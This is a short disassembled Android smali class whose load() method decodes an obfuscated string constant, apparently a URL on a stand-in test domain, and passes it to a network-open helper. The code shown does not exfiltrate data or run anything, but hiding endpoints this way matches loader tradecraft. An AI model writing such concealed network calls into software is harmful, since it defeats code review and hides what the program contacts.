.class public Lm1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "uiimn'22~|~ux3nurm3ixni2k,2pxsh"
    invoke-static {v0}, Lm1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lm1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

